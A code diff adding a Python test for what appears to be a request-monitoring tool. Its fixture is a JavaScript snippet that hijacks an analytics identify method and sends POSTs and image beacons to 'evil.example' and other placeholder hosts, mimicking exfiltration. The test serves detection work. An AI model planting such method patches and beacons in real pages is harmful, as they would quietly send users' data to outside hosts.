@@ -243,6 +243,53 @@ def test_what_a_page_sends_stays_in_it_and_is_told(kept: Kept, opened: Open) -> 
     ]
 
 
+def test_each_request_that_nobody_claimed_is_looked_for_once(kept: Kept, opened: Open) -> None:
+    sends = """
+    const { identify } = Reference.prototype;
+    const post = (url) => {
+      const headers = { "Content-Type": "application/json" };
+      fetch(url, { method: "POST", headers, body: "{}" }).catch(() => {});
+    };
+    Reference.prototype.identify = function (facade) {
+      identify.call(this, facade);
+      const isRun = location.protocol === "https:";
+      const id = location.protocol;
+      if (isRun) post("https://evil.example/token/post");
+      new Image().src = `https://evil.example/c?id=${id}`;
+      post("https://both.example/preflighted");
+      new Image().src = "https://twice.example/pixel";
+      if (isRun) setTimeout(() => { new Image().src = "https://twice.example/pixel?again"; });
+      new Image().src = `https://each.example/${id}`;
+    };
+    module.exports = Reference;
+    """
+    page = opened(kept(IDENTIFY, sends))
+    expect_state(page, "3 of 6 differences show here")
+    told = {
+        card.locator("code.run").text_content(): (
+            card.locator(".head b").text_content(),
+            card.locator(".now").text_content(),
+        )
+        for card in page.locator(".card").all()
+    }
+    shows, gone, unknown = "shows here, too", "does not show here", "cannot be told here"
+    asked = "GET https://each.example/file:"
+    assert told == {
+        "'OPTIONS https://evil.example/token/post'": (gone, "(nothing)"),
+        "'GET https://evil.example/c?id=https:'": (shows, "GET https://evil.example/c?id=file:"),
+        "'OPTIONS https://both.example/preflighted'": (
+            shows,
+            "POST https://both.example/preflighted (here it needs no preflight)",
+        ),
+        "'GET https://twice.example/pixel'": (shows, "GET https://twice.example/pixel"),
+        "'GET https://twice.example/pixel?again'": (gone, "(nothing)"),
+        "'GET https://each.example/https:'": (
+            unknown,
+            f"not seen here, but another request to this host: {asked}",
+        ),
+    }
+
+
 def test_what_nothing_stands_in_for_is_kept_from_leaving(kept: Kept, opened: Open) -> None:
     place = kept(IDENTIFY, DROPS_EMAIL)
     tries = """
